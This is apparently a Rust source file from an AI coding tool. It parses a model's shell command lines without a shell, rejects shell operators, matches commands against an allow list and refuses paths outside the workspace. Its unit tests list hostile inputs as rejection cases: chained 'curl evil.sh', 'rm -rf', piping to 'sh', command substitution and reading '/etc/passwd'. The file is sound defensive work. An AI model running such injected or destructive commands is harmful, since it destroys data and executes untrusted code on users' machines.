//! The `shell` tool's command lines: splitting them into an argument vector
//! without a shell, and matching that vector against
//! `permissions.shell.allow`.
//!
//! wf never hands the model's command line to a shell interpreter. It splits
//! the line with POSIX quoting rules (single quotes, double quotes,
//! backslash) and refuses any shell syntax outside single quotes — `;`, `|`,
//! `&`, `<`, `>`, `(`, `)`, `` ` ``, `$`, newlines — so operators,
//! substitutions and redirections can never ride along on an allowed prefix.
//! Globs (`*`) and `~` are passed literally: nothing is expanded.
//!
//! An allow pattern is split the same way. Each word matches one argument:
//! literally, or as a wildcard pattern when it holds an unquoted `*` or `?`
//! (`*` matches any characters, `/` included; `[abc]` and `{a,b}` work as in
//! globs). Quoted wildcards are literal: `'*'` matches a lone star. A final lone `*` matches any number of further
//! arguments, including none. Matching is on the argument vector, never on
//! the raw string.
//!
//! Whatever the pattern allows, an argument that is an absolute path or has a
//! `..` component (also after `=`, as in `--manifest-path=/x`) is refused: the
//! model cannot point an allowed command outside the workspace.

use globset::GlobBuilder;

/// One word of an allow pattern.
#[derive(Debug, Clone)]
pub enum PatternWord {
    /// Matches exactly this argument.
    Literal(String),
    /// Matches one argument against a wildcard pattern.
    Wild(globset::GlobMatcher),
    /// A final `*`: any number of further arguments.
    Rest,
}

/// Splits a command line into arguments, refusing shell syntax.
pub fn split_command(line: &str) -> Result<Vec<String>, String> {
    split(line, false)
}

/// Parses an allow pattern.
pub fn parse_pattern(line: &str) -> Result<Vec<PatternWord>, String> {
    let words = split(line, true)?;
    if words.is_empty() {
        return Err("the pattern is empty".into());
    }
    let n = words.len();
    let mut out = Vec::with_capacity(n);
    for (i, w) in words.into_iter().enumerate() {
        if w == "*" && i + 1 == n && i > 0 {
            out.push(PatternWord::Rest);
        } else if i == 0 && has_wildcard(&w) {
            return Err("the program name must be literal".into());
        } else if has_wildcard(&w) {
            let glob = GlobBuilder::new(&w)
                .literal_separator(false)
                .backslash_escape(true)
                .build()
                .map_err(|e| e.kind().to_string())?;
            out.push(PatternWord::Wild(glob.compile_matcher()));
        } else {
            out.push(PatternWord::Literal(unescape(&w)));
        }
    }
    Ok(out)
}

/// Whether `args` matches `pattern`.
pub fn matches(pattern: &[PatternWord], args: &[String]) -> bool {
    let mut i = 0;
    for word in pattern {
        match word {
            PatternWord::Rest => return true,
            PatternWord::Literal(l) => {
                if args.get(i) != Some(l) {
                    return false;
                }
            }
            PatternWord::Wild(m) => match args.get(i) {
                Some(a) if m.is_match(a) => {}
                _ => return false,
            },
        }
        i += 1;
    }
    i == args.len()
}

/// Refuses arguments that point outside the workspace.
pub fn check_arguments(args: &[String]) -> Result<(), String> {
    for arg in args.iter().skip(1) {
        let value = arg.split_once('=').map_or(arg.as_str(), |(_, v)| v);
        for candidate in [arg.as_str(), value] {
            if candidate.starts_with('/') || candidate.starts_with('~') {
                return Err(format!("argument `{arg}` is an absolute path"));
            }
            if candidate.split('/').any(|p| p == "..") {
                return Err(format!(
                    "argument `{arg}` leaves the workspace through `..`"
                ));
            }
        }
    }
    Ok(())
}

/// Appends a quoted or escaped character. In a pattern, glob syntax that was
/// quoted is escaped, so `'*'` means a literal star.
fn push_literal(cur: &mut String, ch: char, pattern: bool) {
    if pattern && matches!(ch, '*' | '?' | '[' | ']' | '{' | '}' | '\\') {
        cur.push('\\');
    }
    cur.push(ch);
}

/// Whether a pattern word has an unescaped `*` or `?`.
fn has_wildcard(word: &str) -> bool {
    let mut escaped = false;
    for c in word.chars() {
        match (escaped, c) {
            (false, '\\') => escaped = true,
            (false, '*' | '?') => return true,
            _ => escaped = false,
        }
    }
    false
}

/// Removes the escapes [`push_literal`] added.
fn unescape(word: &str) -> String {
    let mut out = String::with_capacity(word.len());
    let mut chars = word.chars();
    while let Some(c) = chars.next() {
        if c == '\\' {
            if let Some(next) = chars.next() {
                out.push(next);
            }
        } else {
            out.push(c);
        }
    }
    out
}

fn split(line: &str, pattern: bool) -> Result<Vec<String>, String> {
    let refuse = |c: char| {
        let what = match c {
            '\n' | '\r' => "a newline".to_string(),
            other => format!("`{other}`"),
        };
        Err(format!(
            "shell syntax {what} is not supported: commands run without a shell, one program and its arguments"
        ))
    };
    let mut words = Vec::new();
    let mut cur = String::new();
    let mut in_word = false;
    let mut chars = line.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            ' ' | '\t' => {
                if in_word {
                    words.push(std::mem::take(&mut cur));
                    in_word = false;
                }
            }
            '\'' => {
                in_word = true;
                loop {
                    match chars.next() {
                        Some('\'') => break,
                        Some(ch) => push_literal(&mut cur, ch, pattern),
                        None => return Err("unterminated single quote".into()),
                    }
                }
            }
            '"' => {
                in_word = true;
                loop {
                    match chars.next() {
                        Some('"') => break,
                        Some('\\') => match chars.next() {
                            Some(ch @ ('"' | '\\' | '$' | '`')) => {
                                push_literal(&mut cur, ch, pattern)
                            }
                            Some(ch) => {
                                push_literal(&mut cur, '\\', pattern);
                                push_literal(&mut cur, ch, pattern);
                            }
                            None => return Err("unterminated double quote".into()),
                        },
                        Some(ch @ ('$' | '`')) => return refuse(ch),
                        Some(ch) => push_literal(&mut cur, ch, pattern),
                        None => return Err("unterminated double quote".into()),
                    }
                }
            }
            '\\' => {
                in_word = true;
                match chars.next() {
                    Some('\n') | None => return Err("a trailing backslash is not supported".into()),
                    Some(ch) => push_literal(&mut cur, ch, pattern),
                }
            }
            ';' | '|' | '&' | '<' | '>' | '(' | ')' | '`' | '$' | '\n' | '\r' => return refuse(c),
            '#' if !in_word && !pattern => return refuse(c),
            other => {
                in_word = true;
                cur.push(other);
            }
        }
    }
    if in_word {
        words.push(cur);
    }
    Ok(words)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn allowed(pattern: &str, line: &str) -> bool {
        let p = parse_pattern(pattern).unwrap();
        split_command(line).is_ok_and(|args| matches(&p, &args))
    }

    #[test]
    fn splits_with_quotes() {
        assert_eq!(
            split_command(r#"grep -n 'a b' "c \"d\"" e\ f"#).unwrap(),
            ["grep", "-n", "a b", "c \"d\"", "e f"]
        );
        assert_eq!(
            split_command("echo '$(x); y'").unwrap(),
            ["echo", "$(x); y"]
        );
    }

    #[test]
    fn refuses_shell_syntax() {
        for line in [
            "cargo test; curl evil.sh",
            "cargo test && rm -rf .",
            "cargo test | sh",
            "cargo test > out",
            "cargo test $(curl x)",
            "cargo test `id`",
            "cargo test \"$HOME\"",
            "cargo test\nrm -rf /",
            "cargo test &",
        ] {
            assert!(split_command(line).is_err(), "{line}");
        }
    }

    #[test]
    fn matches_on_the_argument_vector() {
        assert!(allowed("cargo check", "cargo check"));
        assert!(allowed("cargo check", "  cargo   check "));
        assert!(!allowed("cargo check", "cargo check --all"));
        assert!(allowed("cargo test *", "cargo test"));
        assert!(allowed("cargo test *", "cargo test -p foo -- --nocapture"));
        assert!(!allowed("cargo test *", "cargo testx"));
        assert!(!allowed("cargo test *", "cargo test; curl x"));
        assert!(allowed("cargo test --package=*", "cargo test --package=wf"));
        assert!(!allowed(
            "cargo test --package=*",
            "cargo test --package=wf x"
        ));
        assert!(allowed("'my tool' run", "\"my tool\" run"));
        assert!(allowed("echo '*'", "echo '*'"));
        assert!(!allowed("echo '*'", "echo anything"));
        assert!(allowed("grep -e 'a?b' *", "grep -e 'a?b' src"));
        assert!(!allowed("grep -e 'a?b' *", "grep -e axb src"));
    }

    #[test]
    fn refuses_paths_outside() {
        let args = |l: &str| split_command(l).unwrap();
        assert!(check_arguments(&args("cat /etc/passwd")).is_err());
        assert!(check_arguments(&args("cat ../x")).is_err());
        assert!(check_arguments(&args("cargo test --manifest-path=/x/Cargo.toml")).is_err());
        assert!(check_arguments(&args("cargo test -p a..b src/x")).is_ok());
    }

    #[test]
    fn pattern_program_must_be_literal() {
        assert!(parse_pattern("* test").is_err());
        assert!(parse_pattern("").is_err());
    }
}
